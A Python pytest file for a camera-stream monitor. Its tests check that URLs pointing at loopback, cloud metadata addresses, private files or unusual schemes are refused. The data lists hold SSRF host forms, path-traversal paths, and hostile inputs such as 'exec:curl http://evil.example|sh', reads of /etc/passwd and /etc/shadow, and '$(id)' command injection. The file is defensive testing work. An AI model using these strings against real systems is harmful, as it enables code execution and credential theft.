from __future__ import annotations

import ipaddress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.streams.catalogue import make_source
from monitor.streams.failures import Reason, StreamError
from monitor.streams.reach import Reach
from monitor.streams.source import SourceRequest
from monitor.streams.url import UrlError, parse_url

ANYWHERE = Reach()
LOOPBACK = Reach((ipaddress.ip_network("127.0.0.0/8"),))
PASSWORD = "hunter22"


@pytest.mark.parametrize(
    "host",
    [
        "127.0.0.1",
        "127.1.2.3",
        "127.1",
        "2130706433",
        "0x7f000001",
        "0x7f.0.0.1",
        "0177.0.0.1",
        "0.0.0.0",
        "localhost",
        "LocalHost",
        "nvr.localhost",
        "localhost.localdomain",
        "[::1]",
        "[::]",
        "[::ffff:127.0.0.1]",
        "[::ffff:169.254.169.254]",
        "[64:ff9b::7f00:1]",
        "[2002:7f00:1::]",
        "169.254.169.254",
        "169.254.1.1",
        "[fe80::1]",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "168.63.129.16",
        "224.0.0.1",
        "239.255.255.250",
        "255.255.255.255",
        "[ff02::1]",
    ],
)
def test_special_places_are_refused_without_asking_the_network(host: str) -> None:
    url = parse_url(f"rtsp://admin:{PASSWORD}@{host}:554/live")
    with pytest.raises(UrlError) as caught:
        ANYWHERE.check(url)
    assert PASSWORD not in str(caught.value) + caught.value.text.zh


@pytest.mark.parametrize(
    "text",
    [
        "rtsp://10.1.2.3/live",
        "rtsp://192.168.1.64:554/Streaming/Channels/101",
        "rtsps://172.16.0.9/live",
        "rtsp://[fd12:3456::9]/live",
        "rtsp://nvr.nursery.example/live",
        "rtsp://203.0.113.9/live",
        "gb28181://31010600001180000001/31010600001320000001",
    ],
)
def test_cameras_on_a_lan_and_elsewhere_are_the_normal_case(text: str) -> None:
    ANYWHERE.check(parse_url(text))


def test_named_networks_are_the_only_ones() -> None:
    reach = Reach((ipaddress.ip_network("10.1.0.0/16"),))
    reach.check(parse_url("rtsp://10.1.9.9/live"))
    for host in ("10.2.0.1", "203.0.113.9", "127.0.0.1"):
        with pytest.raises(UrlError):
            reach.check(parse_url(f"rtsp://{host}/live"))


def test_everything_does_not_include_this_machine() -> None:
    everything = Reach((ipaddress.ip_network("0.0.0.0/0"), ipaddress.ip_network("::/0")))
    everything.check(parse_url("rtsp://203.0.113.9/live"))
    for host in ("127.0.0.1", "169.254.169.254", "[::1]"):
        with pytest.raises(UrlError):
            everything.check(parse_url(f"rtsp://{host}/live"))
    LOOPBACK.check(parse_url("rtsp://127.0.0.1/live"))
    LOOPBACK.check(parse_url("rtsp://localhost/live"))


@given(st.ip_addresses(v=4))
def test_an_ipv4_address_means_the_same_inside_ipv6(address: ipaddress.IPv4Address) -> None:
    mapped = ipaddress.IPv6Address(f"::ffff:{address}")
    assert ANYWHERE.allows(mapped) == ANYWHERE.allows(address)


def test_files_only_from_named_folders(tmp_path: Path) -> None:
    inside, outside = tmp_path / "clips", tmp_path / "private"
    inside.mkdir()
    outside.mkdir()
    (outside / "a.mp4").touch()
    (inside / "way-out.mp4").symlink_to(outside / "a.mp4")
    reach = Reach(folders=(inside,))
    reach.check(parse_url(f"file:{inside}/a.mp4"))
    for text in (
        "file:/etc/passwd",
        f"file:{inside}/../private/a.mp4",
        f"file:{inside}/%2e%2e/private/a.mp4",
        f"file:{inside}/way-out.mp4",
        f"file:{outside}/a.mp4",
    ):
        with pytest.raises(UrlError):
            reach.check(parse_url(text))
        with pytest.raises(UrlError):
            ANYWHERE.check(parse_url(text))


def test_a_name_is_judged_by_what_it_resolves_to(monkeypatch: pytest.MonkeyPatch) -> None:
    answers = {
        "good.example": ["10.1.0.5"],
        "evil.example": ["127.0.0.1"],
        "both.example": ["10.1.0.5", "169.254.169.254"],
    }

    def resolve(host: str, port: int, **_: object) -> list[tuple[int, int, int, str, object]]:
        return [(2, 1, 6, "", (address, port)) for address in answers[host]]

    monkeypatch.setattr("socket.getaddrinfo", resolve)
    good = ANYWHERE.pinned(parse_url(f"rtsp://admin:{PASSWORD}@good.example/live?x=1"))
    assert good.address == f"rtsp://admin:{PASSWORD}@10.1.0.5:554/live?x=1"
    for host in ("evil.example", "both.example"):
        with pytest.raises(StreamError) as caught:
            ANYWHERE.pinned(parse_url(f"rtsp://{host}/live"))
        assert caught.value.reason is Reason.FORBIDDEN


@pytest.mark.parametrize("text", ["rtsp://127.0.0.1:9/live", "file:/etc/passwd"])
def test_sources_do_not_even_try(text: str) -> None:
    source = make_source(SourceRequest("east", parse_url(text), reach=ANYWHERE))
    with pytest.raises((StreamError, UrlError)) as caught:
        source.open()
    assert getattr(caught.value, "reason", None) is Reason.FORBIDDEN
    source.close()


@pytest.mark.parametrize(
    "text",
    [
        "exec:curl http://evil.example|sh",
        "exec:id#video",
        "pipe:0",
        "concat:/etc/passwd|/etc/shadow",
        "http://10.0.0.1/video",
        "https://10.0.0.1/video",
        "ftp://10.0.0.1/video",
        "rtmp://10.0.0.1/live",
        "udp://239.0.0.1:1234",
        "tcp://10.0.0.1:80",
        "subfile,,start,0,end,0,,:/etc/passwd",
        "data:video/mp4;base64,AAAA",
        "hls+http://10.0.0.1/a.m3u8",
        "lavfi:testsrc",
        "ffmpeg:/etc/passwd#video=copy",
        "crypto:/etc/passwd",
        "tee:/tmp/a",
        "unix:/run/docker.sock",
        "-i /etc/passwd",
        "rtsp://10.0.0.1/live -f lavfi",
        "rtsp://10.0.0.1/$(id)\n",
    ],
)
def test_no_other_scheme_and_no_command_gets_through(text: str) -> None:
    with pytest.raises(Exception, match=r".+") as caught:
        make_source(SourceRequest("east", parse_url(text)))
    assert type(caught.value).__name__ in ("UrlError", "InputError")
